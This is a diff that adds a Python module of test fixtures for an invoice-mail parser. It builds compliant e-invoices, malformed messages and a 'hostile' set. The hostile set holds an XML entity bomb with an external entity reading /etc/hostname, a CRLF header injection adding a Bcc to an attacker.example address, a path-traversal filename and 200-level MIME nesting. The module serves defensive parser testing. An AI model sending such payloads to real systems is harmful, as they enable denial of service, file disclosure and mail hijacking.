@@ -1,0 +1,82 @@
+"""Golden mails: what the standards allow, what broken programs send, and what somebody with bad intent sends.
+Names and amounts are the sample office's; `hostile` and half of `malformed` end their lines with CRLF, as mail does on the wire."""
+
+from dataclasses import replace
+
+from . import einvoice, mime, pages
+from .cast import ALTONA, AP, AR, B01, B02, B03, B08, B12
+
+DATE = "Wed, 18 Nov 2026 10:00:00 +0100"
+
+
+def plain_mail(name, to, body, sender="rechnung@elbkarton.example", subject="Rechnung"):
+    return mime.message("", [("From", sender), ("To", to), ("Subject", mime.word(subject)), ("Date", DATE),
+                             ("Message-ID", f"<golden.{name}@elbkarton.example>")], body)
+
+
+def crlf(data):
+    return data.replace(b"\n", b"\r\n")
+
+
+def with_file(name, part, words="Siehe Anhang.\n", to=AP):
+    return plain_mail(name, to, mime.multi("mixed", f"golden-{name}", [mime.text(words), part]))
+
+
+def standards():
+    yield "ubl-invoice", with_file("ubl-invoice", mime.file(einvoice.ubl(B03).encode(), "SR-26-2207.xml", "application/xml"))
+    yield "cii-invoice", with_file("cii-invoice", mime.file(
+        einvoice.cii(B02, einvoice.XRECHNUNG).encode(), "xrechnung.xml", "text/xml"))
+    yield "remittance-plain-text", crlf(plain_mail("remittance-plain-text", AR, mime.text(
+        "Good morning,\n\nToday we paid the following invoices by bank transfer:\n\n"
+        "  Invoice MR-2026-1040    EUR 1,284.00\n  Invoice MR-2026-1058    EUR   749.00\n\n  Total paid              EUR 2,033.00\n\n"
+        "Payment date: 19 November 2026\nOur reference: PAY-3391\n\nThe Copper Kettle Company Ltd\n", encoding="7bit", charset="us-ascii"),
+        "office@copperkettle.example", "Remittance advice PAY-3391"))
+    rows = "".join(f"<tr><td>{n}</td><td>{d}</td><td align=right>{a}</td></tr>\n" for n, d, a in (
+        ("MR-2026-1044", "02.11.2026", "2.140,00"), ("MR-2026-1047", "06.11.2026", "856,00")))
+    yield "remittance-html-table", plain_mail("remittance-html-table", AR, mime.text(
+        "<html><body><p>Sehr geehrte Damen und Herren,<br>wir haben am 19.11.2026 folgende Rechnungen bezahlt:</p>\n"
+        "<table border=1><tr><th>Rechnungsnummer</th><th>Rechnungsdatum</th><th>Zahlbetrag EUR</th></tr>\n"
+        f"{rows}<tr><td colspan=2><b>Summe</b></td><td align=right><b>2.996,00</b></td></tr></table>\n"
+        f"<p>{ALTONA.name}</p></body></html>\n", "html"), ALTONA.mail, "Zahlungsavis")
+
+
+def malformed():
+    yield "no-mime-headers", crlf((
+        f"From: buero@dach-petersen.example\nTo: {AP}\nSubject: Rechnung 26-0367\nDate: {DATE}\n\n"
+        "Rechnung Nr. 26-0367 vom 17.11.2026\n\nDachrinne reinigen und abdichten 512,00\nMaterial 186,40\nNetto 698,40\n19 % USt. 132,70\n"
+        "Rechnungsbetrag 831,10 EUR\n\nZahlbar bis 01.12.2026\nDachdeckerei Petersen & Sohn\n").encode())
+    bill = pages.letter_german(B01)
+    whole = mime.file(bill, "Rechnung_RE-2026-0815.pdf")
+    yield "truncated-base64", crlf(plain_mail("truncated-base64", AP, mime.multi(
+        "mixed", "golden-cut", [mime.text("Siehe Anhang.\n"), whole]).split("--golden-cut--")[0][:-900]))
+    yield "wrong-boundary", with_file("wrong-boundary", whole).replace(b'boundary="golden-wrong-boundary"', b'boundary="golden-other"')
+    yield "empty-body", crlf(plain_mail("empty-body", AP, "\n"))
+    yield "pdf-named-xml", with_file("pdf-named-xml", mime.file(bill, "rechnung.xml", "application/xml"))
+    yield "text-plain-is-pdf", with_file("text-plain-is-pdf", mime.file(bill, "rechnung.txt", "text/plain"))
+
+
+LAUGHS = "<!DOCTYPE Invoice [\n  <!ENTITY lol0 \"ha\">\n" + "".join(
+    f"  <!ENTITY lol{n} \"{f'&lol{n - 1};' * 10}\">\n" for n in range(1, 10)) + '  <!ENTITY local SYSTEM "file:///etc/hostname">\n]>\n'
+
+
+def hostile():
+    laughing = einvoice.ubl(replace(B03, note="LAUGH"), doctype=LAUGHS).replace("LAUGH", "&lol9; &local;")
+    yield "xml-entities", with_file("xml-entities", mime.file(laughing.encode(), "rechnung.xml", "application/xml"))
+    injected = einvoice.ubl(replace(B03, number="SR-26-2207\r\nBcc: everyone@attacker.example")).replace("\r\n", "&#13;&#10;")
+    part = mime.file(injected.encode(), "NAME", "application/xml").replace(
+        'filename="NAME"', "filename*=UTF-8''..%2F..%2Frechnung.xml%0D%0ABcc%3A%20everyone%40attacker.example")
+    yield "header-injection", with_file("header-injection", part)
+    body = mime.text("Rechnung im Anhang, ganz unten.\n")
+    for depth in range(200, 0, -1):
+        body = mime.multi("mixed", f"n{depth}", [body])
+    yield "nested-200", plain_mail("nested-200", AP, body)
+    yield "encrypted-pdf", with_file("encrypted-pdf", mime.file(
+        einvoice.locked(pages.typed_german(B12), "morgenrot"), "Rechnung_geschuetzt.pdf"), "Das Kennwort senden wir getrennt.\n")
+    stream = pages.energy_german(B08)
+    yield "cut-pdf", with_file("cut-pdf", mime.file(stream[: len(stream) // 2], "Stromrechnung.pdf"))
+
+
+def all_golden():
+    for shelf, maker in (("standards", standards), ("malformed", malformed), ("hostile", hostile)):
+        for name, data in maker():
+            yield f"{shelf}/{name}.eml", crlf(data) if shelf == "hostile" else data
